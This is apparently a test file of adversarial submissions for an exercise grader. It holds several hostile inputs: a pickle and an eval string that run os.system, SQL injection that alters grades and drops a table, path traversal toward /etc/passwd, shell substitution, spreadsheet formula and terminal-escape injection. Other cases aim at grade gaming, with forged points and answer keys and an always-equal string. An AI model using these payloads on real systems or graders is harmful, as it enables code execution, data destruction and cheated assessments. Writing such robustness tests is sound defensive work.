"""Answers that are no answers: wrong kinds, huge, deep, poisonous."""

from __future__ import annotations

from attacks.kinds import CLASSIFY, DECIDE, code
from attacks.tools import ANSWERS, MARK, Forged, hand_in_instead, send_instead, sent

ITEMS = "scenarios_one_task"
assert CLASSIFY


@code("Hands in the answers of another exercise.")
def answers_of_another_exercise() -> None:
    hand_in_instead(lambda exercise: Forged(sent("first-check", {"ec2-museum-cooling": "aws"})))


@code("Hands in all exercises in one.")
def answers_of_all_exercises_in_one() -> None:
    every = {**scenarios_one_task, **{f"x{n}": "aws" for n in range(500)}}
    send_instead(every)


@code("Chooses every option everywhere.")
def every_option_at_once() -> None:
    words = "aws, customer, shared, inherited, a, b, c, d, e, l01, l02, l03, sure, unsure"
    send_instead(dict.fromkeys(scenarios_one_task, words))


@code("Says an answer a hundred thousand times.")
def one_answer_very_often() -> None:
    send_instead(dict.fromkeys(scenarios_one_task, "aws " * 20000))


@code("Hands in eight megabytes.")
def huge_answers() -> None:
    send_instead(dict.fromkeys(scenarios_one_task, "x" * 1300000))


@code("Hands in a hundred thousand answers.")
def very_many_answers() -> None:
    send_instead({f"item-{n}": "aws" for n in range(100_000)})


@code("Hands in answers nested very deep.")
def deep_answers() -> None:
    deep = "aws"
    for _ in range(900):
        deep = [deep]
    send_instead(dict.fromkeys(scenarios_one_task, deep))


@code("Hands in numbers that are none: NaN, infinity, 1e308.")
def numbers_that_are_none() -> None:
    odd = [float("nan"), float("inf"), -float("inf"), 1e308, 10**400, -0.0]
    hand_in_instead(lambda exercise: Forged(
        {ANSWERS: {"format": 1, "exercise": exercise, "answers": {}, "twice": [], "points": odd}},
        "inf",
    ))  # fmt: skip


@code("Hands in lists, numbers and truth where text should be.")
def answers_of_wrong_kinds() -> None:
    odd = [True, 1, 1.5, ["aws"], {"aws": 1}, None]
    send_instead(dict(zip(scenarios_one_task, odd, strict=False)))


@code("Hands in text where the dictionary should be.")
def text_instead_of_answers() -> None:
    hand_in_instead(lambda exercise: Forged({ANSWERS: "aws" * 1000}))


@code("Hands in a format of the future.")
def format_of_the_future() -> None:
    send_instead(dict(scenarios_one_task), format=99)


@code("Adds points, credit and keys to the answers.")
def answers_with_points() -> None:
    send_instead(
        dict(scenarios_one_task),
        points=99, credit=1.0, verdict="right", max_points=0, key={"right": "aws"}, dropped=["x"],
        result={"points": 99}, account={"final": {}}, twice=["x" * 10_000] * 50,
    )  # fmt: skip


@code("Answers with characters that steer a terminal.")
def answers_that_steer_a_terminal() -> None:
    evil = "\x1b]0;owned\x07\x1b[2J\x1b[31maws\x1b[8m\x00\x08\x7f"
    send_instead(dict.fromkeys(scenarios_one_task, evil))


@code("Answers with places for values, as formats of text have them.")
def answers_as_formats() -> None:
    for_format = "{0.__class__.__mro__} {key} %s %n %(x)s ${HOME} `id` $(id)"
    send_instead(dict.fromkeys(scenarios_one_task, for_format))


@code("Answers that are packed programs, for whoever unpacks them.")
def answers_as_pickles() -> None:
    import base64
    import pickle

    class Run:
        def __reduce__(self):
            import os

            return os.system, (f"echo REACHED > /tmp/{MARK}-pickle",)

    packed = base64.b64encode(pickle.dumps(Run())).decode()
    send_instead(dict.fromkeys(scenarios_one_task, f"cos\nsystem\n {packed}"))


@code("Answers that are programs, for whoever runs them.")
def answers_as_programs() -> None:
    run = f"__import__('os').system('touch /tmp/{MARK}-eval')"
    send_instead(dict.fromkeys(scenarios_one_task, f"{run} or 'aws'"))


@code("Names of items that lead into objects.")
def names_that_lead_into_objects() -> None:
    names = ("__class__", "__init__", "__proto__", "constructor", "__dict__", "", "\x00", "..")
    send_instead(dict.fromkeys(names, "aws"))


@code("Names of items that are paths.")
def names_that_are_paths() -> None:
    send_instead({"../" * n + "etc/passwd": "aws" for n in range(20)})


@code("Answers that speak to a database.")
def answers_for_a_database() -> None:
    evil = "aws'; update grade set auto_score = 99; drop table srm_ledger; --"
    send_instead(dict.fromkeys(scenarios_one_task, evil))


@code("Answers that a spreadsheet would run.")
def answers_for_a_spreadsheet() -> None:
    evil = "=HYPERLINK(\"http://x/?\"&A1),+cmd|' /C calc'!A0,@SUM(1),-1"
    send_instead(dict.fromkeys(scenarios_one_task, evil))


@code("Answers of half characters, that no file holds.")
def answers_of_half_characters() -> None:
    global scenarios_one_task
    scenarios_one_task = {f"{name}\ud800": "aws\udfff" for name in scenarios_one_task}
    send_instead(dict(scenarios_one_task))


@code("Answers that look like the right ones and are not, or the other way round.")
def answers_that_look_alike() -> None:
    alike = ["аws", "a\u200bws", "\u202eswa", "ａｗｓ", "AWS\u0301", "cus\u00adtomer"]
    send_instead(dict(zip(scenarios_one_task, alike, strict=False)))


@code("A dictionary that is different each time it is read.")
def answers_that_change() -> None:
    global scenarios_one_task
    import itertools
    from collections.abc import Mapping

    class Changing(Mapping):
        turn = itertools.cycle(["aws", "customer", "shared"])

        def __getitem__(self, name):
            return next(self.turn)

        def __iter__(self):
            return iter(f"item-{n}" for n in itertools.count())

        def __len__(self):
            return 10**9

    scenarios_one_task = Changing()


@code("A function that answers with everything at once.", assignment=DECIDE)
def function_that_says_everything() -> None:
    global responsible

    def responsible(service, task, configuration):
        return ["aws", "customer", "shared", "unknown"]


@code("A function whose answers equal everything.", assignment=DECIDE)
def function_that_is_always_equal() -> None:
    global responsible

    class Right(str):
        __hash__ = str.__hash__

        def __eq__(self, other):
            return True

    def responsible(service, task, configuration):
        return Right("aws")


@code("A function that never answers.", assignment=DECIDE)
def function_without_end() -> None:
    global responsible

    def responsible(service, task, configuration):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                continue


@code("A function that ends the program.", assignment=DECIDE)
def function_that_leaves() -> None:
    global responsible

    def responsible(service, task, configuration):
        raise SystemExit(0)


@code("Outputs that no function gives: huge, deep, of wrong kinds.", assignment=DECIDE)
def outputs_of_wrong_kinds() -> None:
    deep = "aws"
    for _ in range(9):
        deep = [deep]
    odd = [1, None, True, [], {"value": deep}, {"value": 10**300}, {"value": {"a": 1}}, "aws",
           {"raised": ["x"]}, {"late": "no", "value": "aws"}, {"value": "x" * 100_000}]  # fmt: skip

    def send(exercise):
        work = {"outputs": odd * 30, "columns": odd, "rows": [odd] * 50}
        return Forged({ANSWERS: {"format": 1, "exercise": exercise, "work": work}})

    hand_in_instead(send)


@code("Outputs with right answers of its own choice.", assignment=DECIDE)
def outputs_with_their_own_key() -> None:
    def send(exercise):
        work = {"outputs": [{"value": "aws", "right": "aws"}] * 400, "right": ["aws"] * 400,
                "expected": {"right": ["aws"] * 400}, "marks": {}, "credit": 1.0}  # fmt: skip
        return Forged({ANSWERS: {"format": 1, "exercise": exercise, "work": work}})

    hand_in_instead(send)


@code("A table with a million columns and a cell that runs code when it is read.",
      assignment=DECIDE, cell="decide-tests")  # fmt: skip
def table_that_runs_code() -> None:
    global my_cases
    import pandas as pd

    class Evil:
        def __str__(self):
            raise SystemExit

        __repr__ = __format__ = __str__

    names = [f"c{n}" for n in range(3000)]
    my_cases = pd.DataFrame([[Evil()] * 3000] * 50, columns=names)
